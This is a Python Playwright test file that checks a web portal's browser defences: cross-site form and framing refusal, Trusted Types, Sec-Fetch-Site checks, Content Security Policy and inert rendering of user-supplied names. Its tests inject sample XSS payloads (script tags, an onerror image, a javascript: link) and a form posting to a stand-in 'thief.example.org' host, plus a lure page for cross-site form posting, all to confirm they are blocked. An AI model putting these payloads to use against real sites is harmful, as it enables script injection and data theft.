"""What a browser must refuse on the portal's word."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Error, Route, expect

from browser.portal_world import Visit, Visitor, World

_HEADERS = {"content-type": "application/x-www-form-urlencoded"}


@pytest.fixture
def elsewhere(world: World) -> Iterator[str]:
    """Another origin with a form that posts to ours and a frame that shows ours."""
    body = f'<form method="post" action="{world.stage.address}/consent"><input name="purpose" value="training">'
    frame = f'<iframe src="{world.stage.address}/sign-in"></iframe>'
    page = (body + "<button>Win a prize</button></form>" + frame).encode()

    class Prize(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, format: str, *args: object) -> None:
            """Quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Prize) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()
        thread.join()


def consents(world: World, person: Visitor) -> list[object]:
    found: list[object] = world.client(person.session).call("GET", "/v1/consents").json()["consents"]
    return found


def test_a_form_on_another_origin_is_refused(world: World, visit: Visit, elsewhere: str) -> None:
    person = world.person()
    page = visit(person.session, quiet=False)
    page.goto(elsewhere)
    page.get_by_role("button").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Not allowed")
    expect(page.locator("code")).to_have_text("cross-site")
    assert consents(world, person) == []


def test_no_other_origin_frames_a_page(world: World, visit: Visit, elsewhere: str) -> None:
    page = visit(quiet=False)
    with page.expect_response("**/sign-in") as answer:
        page.goto(elsewhere)
    assert answer.value.status == 403
    assert page.frame_locator("iframe").locator("form").count() == 0
    page.goto("/sign-in")
    assert page.locator("form").count() > 0
    assert page.evaluate("self.crossOriginIsolated") is True


def test_no_text_becomes_markup(world: World, visit: Visit) -> None:
    page = visit(quiet=False)
    for path in ("/trust", "/sign-in"):  # without a script and with one
        page.goto(path)
        with pytest.raises(Error, match="TrustedHTML"):
            page.evaluate("document.body.innerHTML = '<b>owned</b>'")


@pytest.mark.parametrize("site", ["same-site", "cross-site", "none"])
def test_only_our_own_pages_may_post(world: World, visit: Visit, site: str) -> None:
    person = world.person()
    request = visit(person.session).context.request
    form = {"purpose": "training"}
    refused = request.post("/consent", form=form, headers={**_HEADERS, "sec-fetch-site": site}, max_redirects=0)
    assert refused.status == 403
    assert consents(world, person) == []
    passed = request.post("/consent", form=form, headers={**_HEADERS, "sec-fetch-site": "same-origin"}, max_redirects=0)
    assert passed.status == 303
    assert len(consents(world, person)) == 1


def test_an_injected_script_does_not_run(world: World, visit: Visit) -> None:
    page = visit(quiet=False)
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    hostile = (
        "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\">"
        "<a id=trap href=\"javascript:document.title='owned'\">x</a><style>body{display:none}</style>"
        '<form id=steal action="https://thief.example.org/" method=post><button id=send>x</button></form>'
    )

    def inject(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace("</main>", hostile + "</main>"))

    page.route("**/verify", inject)
    page.goto("/verify")
    page.evaluate("for (const name of ['trap', 'send']) document.getElementById(name).click()")
    page.wait_for_timeout(300)
    assert page.evaluate("document.title") == "Verify a certificate · Troth"
    assert page.locator("body").is_visible()
    assert page.url == f"{world.stage.address}/verify"
    refused = "\n".join(one for one in said if "Content Security Policy" in one)
    for directive in ("script-src", "style-src", "form-action"):
        assert directive in refused


def test_injected_names_are_inert(olga: Visitor, visit: Visit) -> None:
    page = visit(olga.session)
    for path in ("/account", "/data", "/people"):
        page.goto(path)
        assert "Troth" in page.title()
        assert page.locator("main script, main b > b, main img[src='x']").count() == 0
    page.goto("/account")
    expect(page.get_by_role("main")).to_contain_text("<script>document.title='owned'</script> \"O'Hara\"")
    expect(page.get_by_role("main")).to_contain_text("Aurora <b>Studio</b>")
    page.goto("/data")
    expect(page.get_by_role("main")).to_contain_text("<img src=x onerror=alert(1)>.jpg")


def test_a_page_runs_scripts_of_ours_alone(olga: Visitor, visit: Visit) -> None:
    page = visit(olga.session)
    answer = page.goto("/data")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert re.search(r"script-src 'nonce-[\w-]{22}'(;|$)", policy)
    assert "unsafe" not in policy
    assert answer.headers["cache-control"] == "no-store"
    assert page.locator("[style], [onclick], script:not([src^='/static/'][integrity^='sha384-'])").count() == 0


def test_a_lost_browser_gets_a_page_and_a_program_gets_a_problem(world: World, visit: Visit) -> None:
    page = visit(quiet=False)
    answer = page.goto("/nowhere/at/all")
    assert answer is not None
    assert answer.status == 404
    expect(page.get_by_role("link", name="Go to the start")).to_be_visible()
    program = page.context.request.get("/nowhere/at/all", headers={"accept": "application/json"})
    assert (program.status, program.json()["code"]) == (404, "no-route")
    mangled = page.goto("/certificates/not%20an%20id!")
    assert mangled is not None
    expect(page).to_have_url(f"{world.stage.address}/sign-in")


def test_an_id_that_can_be_none_is_not_found(olga: Visitor, visit: Visit) -> None:
    page = visit(olga.session, quiet=False)
    for path in ("/data/not%20an%20id!", "/receipts/!", "/certificates/!", "/activity/99999999"):
        answer = page.goto(path)
        assert answer is not None
        assert answer.status == 404, path
